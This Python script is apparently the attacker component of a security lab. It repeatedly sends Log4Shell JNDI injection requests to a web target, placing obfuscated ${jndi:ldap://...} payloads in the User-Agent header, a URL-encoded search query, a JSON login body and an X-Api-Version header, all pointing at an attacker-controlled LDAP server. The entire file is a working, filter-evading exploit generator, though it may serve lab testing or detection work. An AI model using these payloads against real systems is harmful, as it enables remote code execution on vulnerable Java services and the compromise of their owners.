"""The lab's attacker: every INTERVAL seconds one exploit request to WEB_ADDR, cycling through
obfuscations and places (User-Agent, URL-encoded URI, JSON body, another header), each pointing
the victim's JNDI lookup at LDAP_ADDR."""

from __future__ import annotations

import os
import urllib.parse

from traffic import Request, forever


def attacks(ldap: str) -> list[Request]:
    """The exploit variants, all naming ldap://<ldap>/."""
    encoded = urllib.parse.quote(f"${{jndi:ldap://{ldap}/uri}}", safe="")
    body = f'{{"user": "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{ldap}/body}}"}}'
    api_version = f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}ldap://{ldap}/hdr}}"
    return [
        ("GET", "/", {"User-Agent": f"${{${{lower:j}}ndi:ldap://{ldap}/ua}}"}, b""),
        ("GET", f"/search?q={encoded}", {"User-Agent": "Mozilla/5.0"}, b""),
        ("POST", "/login", {"Content-Type": "application/json"}, body.encode()),
        ("GET", "/api", {"X-Api-Version": api_version}, b""),
    ]


if __name__ == "__main__":
    forever(
        os.environ["WEB_ADDR"],
        attacks(os.environ["LDAP_ADDR"]),
        float(os.environ.get("INTERVAL", "3")),
    )
